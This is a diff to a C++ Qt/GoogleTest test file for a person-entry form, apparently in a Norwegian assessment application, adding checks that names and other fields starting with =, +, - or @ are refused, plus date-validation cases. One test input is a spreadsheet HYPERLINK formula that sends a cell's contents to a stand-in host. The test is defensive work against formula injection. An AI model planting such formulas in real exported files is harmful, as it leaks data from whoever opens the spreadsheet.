@@ -14,6 +14,8 @@
 #include <QTemporaryDir>
 #include <QTest>
 
+#include <tuple>
+
 #include <gtest/gtest.h>
 
 using namespace tavlo;
@@ -156,7 +158,7 @@ TEST_F(PersonFormTest, StoredTestIsShownWholeAndAcceptedUnchanged)
     ctx.test = tavlo::test::childAged(7, 3, 12);
     ctx.test.person.SEX = 2;
     ctx.test.person.HANDEDNESS = 3;
-    ctx.test.person.TELEFON = QStringLiteral("+47 22 33 44 55 / +47 987 65 432"); // wider than its 20
+    ctx.test.person.TELEFON = QStringLiteral("0047 22 33 44 55 / 0047 987 65 432"); // wider than its 20
     const PersonalData before = ctx.test.person;
     open();
     tavlo::test::saveScreenshot(w, QStringLiteral("person-form-stored"));
@@ -242,9 +244,23 @@ TEST_F(PersonFormTest, RefusalsComeInOrderWithTheFocusOnTheFieldAndItsTextSelect
         EXPECT_EQ(w.screen(), form);
     };
     expectRefusal(0, QStringLiteral("Testpersonens navn må fylles inn!"));
-    type(0, QStringLiteral("Ola"));
+    // A spreadsheet opening the export would run these as formulas; within a text they are no harm.
+    const QString formula = QStringLiteral(
+        "Feltet \"%1\" kan ikke begynne med =, +, - eller @, fordi eksportfilen åpnes i regneark, som leser en slik "
+        "tekst som en formel og kjører den. Fjern tegnet, eller skriv teksten på en annen måte.");
+    for (const char* name : {"=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")", "+Ola", "-Ola", "@Ola"}) {
+        type(0, QString::fromUtf8(name));
+        expectRefusal(0, formula.arg(QStringLiteral("Navn")));
+    }
+    type(0, QStringLiteral("Ola-Kari = @x +"));
     expectRefusal(8, QStringLiteral("Testleder må fylles inn!"));
     type(8, QStringLiteral("Kari"));
+    for (const auto& [id, text, label] : {std::tuple{2, "+47 22 33 44 55", "Telefon"}, std::tuple{5, "-skolen", "Skole"},
+                                          std::tuple{9, "=1+1", "Annet"}}) {
+        type(id, QString::fromUtf8(text));
+        expectRefusal(id, formula.arg(QLatin1String(label)));
+        type(id, {});
+    }
     type(10, {});
     expectRefusal(10, QStringLiteral("Testdato må fylles inn!"));
     for (const char* wrong : {"31042012", "150620"}) {
@@ -264,6 +280,55 @@ TEST_F(PersonFormTest, RefusalsComeInOrderWithTheFocusOnTheFieldAndItsTextSelect
     EXPECT_TRUE(sink.messages.isEmpty()) << "8 years: no question";
     EXPECT_EQ(ctx.test.person.SEX, 2);
     EXPECT_EQ(ctx.test.person.TESTDATE, (Date{2012, 2, 29}));
+    EXPECT_EQ(ctx.test.person.NAMN, QStringLiteral("Ola-Kari = @x +"));
+}
+
+TEST_F(PersonFormTest, ABirthDateAfterTheTestDateIsRefusedAndAFutureTestDateAsked)
+{
+    const auto typed = [](const QDate& d) { return d.toString(QStringLiteral("ddMMyyyy")); };
+    const QDate today = QDate::currentDate(), tomorrow = today.addDays(1);
+    const QString wrongBorn = QStringLiteral("Feil fødselsdato. Endre til gyldig dato!");
+    const QString future = QStringLiteral("Testdatoen er etter dagens dato. Er det riktig?");
+    const QString young = QStringLiteral("Barnet är yngre än 3 år. Är det korrekt?");
+    constexpr int kTest = PersonForm::kTestDateField, kBorn = PersonForm::kBornDateField, kAccepted = -1;
+    const struct {
+        QString testDate, born;
+        QList<bool> answers; // empty: the default answer
+        QStringList messages;
+        int focus;
+    } cases[] = {
+        {"10122026", "01012030", {}, {wrongBorn}, kBorn},
+        {"15062012", "16062012", {}, {wrongBorn}, kBorn},
+        {"15062012", "15062012", {true}, {young}, kAccepted},
+        {typed(tomorrow), typed(tomorrow.addYears(-8)), {}, {future}, kTest},
+        {typed(tomorrow), typed(tomorrow.addYears(-8)), {true}, {future}, kAccepted},
+        {typed(tomorrow), typed(tomorrow.addDays(1)), {true}, {future, wrongBorn}, kBorn},
+        {typed(today), typed(today.addYears(-8)), {}, {}, kAccepted},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE((c.testDate + u' ' + c.born).toStdString());
+        NewTestRecord(ctx.test);
+        open();
+        typeValid();
+        type(PersonForm::kTestDateField, c.testDate);
+        type(PersonForm::kBornDateField, c.born);
+        sink.messages.clear();
+        sink.answers = c.answers;
+        clickFortsett();
+        EXPECT_EQ(sink.texts(), c.messages);
+        for (const auto& m : sink.messages) {
+            EXPECT_EQ(m.question, m.text != wrongBorn) << m.text.toStdString();
+            EXPECT_EQ(m.icon, m.question ? MessageIcon::Question : MessageIcon::Exclamation);
+        }
+        EXPECT_EQ(accepted(), c.focus == kAccepted);
+        if (c.focus == kAccepted) {
+            EXPECT_EQ(FormatTypedDate(ctx.test.person.TESTDATE), c.testDate);
+            continue;
+        }
+        EXPECT_EQ(w.screen(), form);
+        EXPECT_EQ(focused(), c.focus);
+        EXPECT_EQ(f(c.focus)->selectedText(), f(c.focus)->text());
+    }
 }
 
 TEST_F(PersonFormTest, FieldsBeforeARefusalAreInTheRecordAndOnDiskWhenItIsShown)
